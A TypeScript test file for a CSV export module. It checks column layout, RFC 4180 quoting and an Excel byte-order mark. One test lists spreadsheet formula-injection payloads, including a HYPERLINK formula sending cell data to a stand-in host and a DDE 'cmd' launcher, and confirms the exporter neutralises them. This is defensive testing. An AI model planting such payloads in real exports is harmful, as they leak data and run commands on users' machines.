import { describe, expect, it } from 'vitest';
import {
  bundleDecisions,
  CSV_COLUMNS,
  csvField,
  type DecisionBundle,
  toCsv,
} from '../../../../src/core/export';
import { recordMaker, sampleTables } from './records';

/** A small RFC 4180 reader, to check what a spreadsheet would see. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i += 1;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i += 1;
    } else field += c;
  }
  return rows;
}

const bundleWith = (fields: Record<string, unknown>): DecisionBundle => {
  const { make } = recordMaker();
  return {
    decision: make('decisions', { title: 'T', ...fields }),
    roles: [],
    stakeholders: [],
    anchors: [],
    followUps: [],
    events: [],
  };
};

describe('toCsv', () => {
  it('writes the documented columns, one row per decision, CRLF line ends', () => {
    const csv = toCsv(bundleDecisions(sampleTables()));
    const rows = readCsv(csv);
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(csv.match(/\r\n/g)).toHaveLength(2);
    expect(csv).not.toMatch(/(?<!\r)\n/);
    expect(rows[0]).toEqual(CSV_COLUMNS.map((c) => c.header));
    expect(rows).toHaveLength(2);
    const row = Object.fromEntries(CSV_COLUMNS.map((c, i) => [c.header, rows[1]?.[i]]));
    expect(row).toMatchObject({
      title: 'Use Postgres for sync',
      status: 'decided',
      decided: '2024-05-03',
      review: '2024-11-01',
      accountable: 'Dana Lee',
      responsible: 'Sam Ortiz',
      consulted: 'Kim',
      informed: 'Lee, Jordan',
      stances: 'Dana Lee: supports; Sam Ortiz: committed; Kim: concerns; Lee, Jordan: unknown',
      tags: 'sync; storage',
      page: 'Sync storage · Pull Request #12',
      url: 'https://github.com/acme/app/pull/12',
      quote: "Let's go with Postgres",
      next_follow_up: 'Provision the database',
      next_follow_up_owner: 'Sam Ortiz',
      next_follow_up_due: '2024-05-20',
    });
    for (const c of CSV_COLUMNS) expect(c.description).not.toBe('');
  });

  it('quotes commas, quotes and line breaks (RFC 4180)', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a, b')).toBe('"a, b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    const rows = readCsv(toCsv([bundleWith({ title: 'He said "no", then\r\nleft' })]));
    expect(rows[1]?.[1]).toBe('He said "no", then\r\nleft');
  });

  it('neutralises spreadsheet formulas in every cell', () => {
    const attacks = [
      '=HYPERLINK("http://evil.example/?"&A1,"click")',
      '+1+cmd|" /C calc"!A0',
      '-2+3',
      '@SUM(A1:A9)',
      '\t=1',
      '\r=1',
    ];
    const rows = readCsv(toCsv(attacks.map((title) => bundleWith({ title, tags: [title] }))));
    rows.slice(1).forEach((row, i) => {
      expect(row[1]).toBe(`'${attacks[i]}`);
      expect(row[12]).toBe(`'${attacks[i]}`);
    });
  });

  it('adds a byte-order mark for Excel only when asked', () => {
    expect(toCsv([]).charCodeAt(0)).not.toBe(0xfeff);
    expect(toCsv([], { bom: true }).charCodeAt(0)).toBe(0xfeff);
  });
});
